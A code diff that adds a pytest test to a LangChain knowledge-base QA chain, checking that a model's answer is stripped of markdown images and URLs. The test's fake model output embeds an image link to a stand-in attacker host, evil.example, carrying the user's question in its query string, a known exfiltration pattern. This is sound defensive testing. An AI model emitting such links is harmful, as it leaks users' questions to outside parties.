@@ -127,6 +127,17 @@ def test_batch_keeps_the_order(chain: KnowledgeBaseQA) -> None:
     assert "保修期是两年" in second["result"]
 
 
+def test_no_answer_sends_the_question_away(kb: KnowledgeBase, embeddings: WordEmbeddings) -> None:
+    """A picture that an answer ends with is none; the stream was text, and the page shows text."""
+    said = "Fifteen days [1]. ![logo](https://evil.example/p?q=annual+leave)"
+    llm = FakeListLLM(responses=[said])
+    chain = build_qa_chain(kb=kb.folder, settings=SETTINGS, llm=llm, embeddings=embeddings)
+    answer = chain.invoke("How long is annual leave?")["answer"]
+    assert "Fifteen days" in answer.text
+    assert "![" not in answer.text
+    assert "https://" not in answer.text
+
+
 @pytest.mark.parametrize("model", [FakeListLLM, FakeListChatModel])
 def test_any_langchain_model_writes_the_answer(
     kb: KnowledgeBase, embeddings: WordEmbeddings, model: type
